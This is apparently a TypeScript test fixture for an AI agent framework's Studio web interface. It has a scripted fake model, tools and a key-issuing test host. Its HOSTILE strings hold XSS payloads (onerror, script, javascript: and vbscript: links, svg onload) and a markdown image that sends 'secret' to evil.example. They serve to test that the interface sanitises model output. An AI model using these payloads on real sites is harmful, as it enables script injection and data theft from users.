import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { FastifyAdapter, type NestFastifyApplication } from '@nestjs/platform-fastify';
import { Test } from '@nestjs/testing';
import {
  Agent,
  AgentModule,
  KeysService,
  LanguageModel,
  type ModelCall,
  type ModelEvent,
  type ModelReply,
  type ModelRequest,
  type Scope,
  Tool,
} from '../../../src/index.js';
import { StudioModule } from '../../../src/studio/index.js';

const BUILT = fileURLToPath(new URL('../../../dist/studio', import.meta.url));
/** A hundred deltas a second. */
const BETWEEN_DELTAS_MS = 10;

/** A text that would run a script if it became part of a page. */
export const HOSTILE = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
const HOSTILE_ANSWER = [
  HOSTILE,
  '[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)',
  '![secret](https://evil.example/?q=secret) <https://evil.example/auto>',
  '```html\n</code></pre><script>window.hacked=1</script>\n```',
  '| a | b |\n|---|---|\n| <svg onload=window.hacked=1> | [x](vbscript:x) |',
].join('\n\n');

const MARKDOWN =
  '# Title\n\nSome **bold** text, `code`, and a [link](https://example.com/).\n\n```js\nconst a = 1;\n```\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |';

/** Decides by the last message: `count 100` sends a hundred deltas, `call pay` calls a tool, also `twice`. */
class StudioModel extends LanguageModel {
  nameFor(): string {
    return 'studio-model';
  }

  async reply(request: ModelRequest): Promise<ModelReply> {
    const last = request.messages.at(-1);
    const text = last?.content ?? '';
    const [, name, isTwice] = /^call (\w+)( twice)?/.exec(text) ?? [];
    const isCall = last?.role === 'user' && name !== undefined;
    const callId = `call-${request.messages.length}`;
    const call = { callId, name: name ?? '', arguments: '{"amount":5}' };
    const hostile = { ...call, arguments: JSON.stringify({ city: HOSTILE }) };
    return {
      text: isCall ? '' : textFor(text),
      toolCalls: isCall ? (isTwice === undefined ? [call] : [hostile, { ...call, callId: `${callId}-2` }]) : [],
      model: 'studio-model',
      usage: { inputTokens: 100, outputTokens: 20 },
      isTruncated: false,
    };
  }

  async *stream(request: ModelRequest, { signal }: ModelCall): AsyncGenerator<ModelEvent> {
    const reply = await this.reply(request);
    const [, count = '0', isAtOnce] = /^count (\d+)( at once)?/.exec(request.messages.at(-1)?.content ?? '') ?? [];
    for (let n = 1; n <= Number(count); n += 1) {
      if (isAtOnce === undefined || n % 50 === 0) await sleep(BETWEEN_DELTAS_MS, undefined, { signal });
      yield { type: 'delta', text: `word${n} ` };
    }
    if (Number(count) === 0 && reply.text !== '') yield { type: 'delta', text: reply.text };
    yield { type: 'reply', reply };
  }
}

function textFor(question: string): string {
  const [, count = '0'] = /^count (\d+)/.exec(question) ?? [];
  if (count !== '0') return Array.from({ length: Number(count) }, (_, index) => `word${index + 1} `).join('');
  if (question.includes('hostile')) return HOSTILE_ANSWER;
  if (question === 'markdown') return MARKDOWN;
  return question.startsWith('{') || question.startsWith('paid') ? `Done: ${question}` : `You said: ${question}`;
}

@Agent({ role: 'assistant', description: 'Pays and looks up.', instructions: 'Help.' })
class AssistantAgent {
  @Tool({ description: 'Pays', needsApproval: true })
  pay(): string {
    return 'paid 5';
  }

  @Tool({ description: 'Looks up' })
  look(): string {
    return HOSTILE;
  }

  @Tool({ description: 'Waits' })
  async wait(): Promise<string> {
    await sleep(20);
    return 'waited';
  }

  @Tool({ description: 'Fails' })
  fail(): string {
    throw new Error('The tool failed.');
  }
}

/** A Nest application with the agents and Studio. It accepts keys. */
export class StudioHost {
  private constructor(
    readonly app: NestFastifyApplication,
    readonly url: string,
  ) {}

  static async start(databaseUrl: string): Promise<StudioHost> {
    const module = await Test.createTestingModule({
      imports: [
        AgentModule.forRoot({
          auth: 'api-key',
          http: true,
          admin: true,
          model: new StudioModel(),
          databaseUrl,
          prices: { '*': { input: 1000, output: 1000 } },
          budgets: { tenantTokensPerMonth: 1_000_000, tenantCostPerMonth: 4 },
          rateLimit: { requests: 100_000, windowSeconds: 60 },
        }),
        StudioModule.forRoot({ folder: BUILT }),
      ],
      providers: [AssistantAgent],
    }).compile();
    const app = module.createNestApplication<NestFastifyApplication>(new FastifyAdapter(), { logger: false });
    await app.listen(0, '127.0.0.1');
    return new StudioHost(app, await app.getUrl());
  }

  /** Makes a key. */
  async key(tenant = 'acme', scopes: readonly Scope[] = ['admin']): Promise<{ key: string; key_id: string }> {
    return await this.app.get(KeysService).create({ name: `Key of ${tenant}`, tenant, scopes }, 'test');
  }

  async revoke(keyId: string): Promise<void> {
    await this.app.get(KeysService).revoke(keyId, 'test');
  }

  async close(): Promise<void> {
    await this.app.close();
  }
}
